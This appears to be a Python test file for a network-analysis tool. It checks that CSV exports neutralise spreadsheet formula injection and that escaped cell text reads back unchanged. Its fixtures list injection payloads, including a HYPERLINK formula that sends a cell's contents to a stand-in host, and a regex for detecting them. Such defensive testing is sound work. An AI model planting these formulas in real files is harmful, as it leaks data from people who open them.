"""No cell of any CSV is a formula to a spreadsheet, and what we wrote is read back as it was."""

import csv
import re

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sna.cli import run
from sna.dataset import write_csv
from sna.errors import csv_cell, csv_text
from sna.load.files.cells import delimited

LIVE = ['=HYPERLINK("http://evil.invalid/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1+1", "＝1+1", "'=1"]
FORMULA = re.compile(r"[\t\r\n ]*[=+\-@＝＋－＠]|[\t\r\n]")


@given(st.text())
def test_every_text_comes_back_as_it_was_and_is_no_formula(text):
    cell = csv_cell(text)
    assert csv_text(cell) == text
    assert not FORMULA.match(cell)


@given(st.lists(st.sampled_from([*LIVE, "Ann", "O'Brien", "''", "'Abd al-Rahman"]), min_size=1))
def test_a_table_comes_back_as_it_was(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("csv") / "table.csv"
    write_csv(pd.DataFrame({"name": texts, "=number": [-1.5] * len(texts)}), path)
    head, *rows = delimited(path.read_text(encoding="utf-8"))
    # tabs are cleaned away where control characters are, never into a formula
    assert head.cells == ["name", "=number"]
    assert [row.cells[0] for row in rows] == texts
    assert {row.cells[1] for row in rows} == {"-1.5"}


@pytest.mark.parametrize(
    "command", [["run", "--for", "all"], ["run", "--labels", "codes"], ["tables"], ["export"]], ids=" ".join
)
def test_no_csv_of_any_command_holds_a_formula(tmp_path, command):
    rows = [["event", "date", "name", "organisation", "role", "sector"]]
    for month in range(1, 7):
        rows += [
            [f"={month}+1", f"2024-0{month}-10", f"{first} Smithson", live, f"@{live}", f"+{first}"]
            for first, live in zip("Ann Bob Cyd Dee Eve Flo Gus Hal Ina".split(), [*LIVE, "North"], strict=True)
        ]
    rows.append(["=cmd", "31/31/2024", "=1+1 Person", "=2", "=3", "=4"])
    study = tmp_path / "study"
    study.mkdir()
    with (study / "register.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    (study / "study.toml").write_text("[network]\npermutations = 9\n", encoding="utf-8")
    assert run([command[0], str(study), *command[1:], "--out", str(tmp_path / "out")]) in {0, 1}
    files = [*(tmp_path / "out").rglob("*.csv")]
    assert files
    guarded = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        live = [cell for cell in cells if FORMULA.match(cell) and not re.fullmatch(r"-?[\d.]+(e[-+]?\d+)?|-inf", cell)]
        assert not live, (path.name, live[:3])
        guarded += sum(cell.startswith("'") for cell in cells)
    assert guarded
